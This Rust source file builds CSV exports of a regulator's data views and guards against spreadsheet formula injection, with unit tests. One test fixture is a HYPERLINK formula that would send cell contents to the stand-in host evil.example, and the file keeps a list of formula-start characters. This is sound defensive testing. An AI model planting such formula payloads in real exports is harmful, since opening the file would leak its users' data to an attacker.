//! The CSV form of the regulator's view exports (RFC 4180), with cells that a spreadsheet would run
//! as formulas neutralized. It must never write a text cell that starts a formula.

use super::ApiError;
use serde::Serialize;
use serde_json::Value;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection
/// list: `=`, `+`, `-`, `@`, tab and carriage return).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV cell. Text that a spreadsheet would run as a formula (a data set named
/// `=HYPERLINK(...)`, say) gets a leading `'`, so it shows as the text it is. Numbers are written
/// as they are: a column typed as a number (amounts, heights, counts) stays numeric, and a
/// number is never a formula.
fn csv_field(v: &Value) -> String {
    let s = match v {
        Value::Null => String::new(),
        Value::String(s) if s.starts_with(FORMULA_STARTS) => format!("'{s}"),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s }
}

/// CSV (RFC 4180): a header line, then one line per row in `columns` order; text cells are
/// neutralized against formulas ([`csv_field`]).
pub(super) fn to_csv<R: Serialize>(columns: &[&str], rows: &[R]) -> Result<String, ApiError> {
    let field = csv_field;
    let mut out = columns.join(",");
    out.push_str("\r\n");
    for r in rows {
        let r = serde_json::to_value(r).map_err(ApiError::internal)?;
        let line: Vec<String> = columns.iter().map(|c| field(&r[*c])).collect();
        out.push_str(&line.join(","));
        out.push_str("\r\n");
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde::Serialize;
    use serde_json::json;

    #[derive(Serialize)]
    struct Row {
        dataset_name: String,
        reason: String,
        price: i64,
        height: u64,
    }

    const COLUMNS: &[&str] = &["dataset_name", "reason", "price", "height"];

    fn csv_line(r: Row) -> String {
        let csv = to_csv(COLUMNS, &[r]).map_err(|e| e.message).unwrap_or_default();
        csv.lines().nth(1).unwrap_or_default().to_string()
    }

    #[test]
    fn text_cells_that_start_a_formula_are_neutralized() {
        let line = csv_line(Row {
            dataset_name: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".into(),
            reason: "@SUM(1+1)".into(),
            price: 5,
            height: 7,
        });
        assert_eq!(line, "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(1+1),5,7");
        for start in ["+1", "-1", "\tcmd", "\rcmd", "=1"] {
            let cell = csv_field(&json!(start));
            assert!(cell.trim_start_matches('"').starts_with('\''), "{start:?} became {cell:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_kept_as_they_are() {
        let line =
            csv_line(Row { dataset_name: "clinic visits".into(), reason: "late, wrong".into(), price: -5, height: 7 });
        assert_eq!(line, "clinic visits,\"late, wrong\",-5,7", "a number column stays a number, even negative");
        assert_eq!(csv_field(&json!("a=b")), "a=b", "only a leading formula character counts");
    }
}
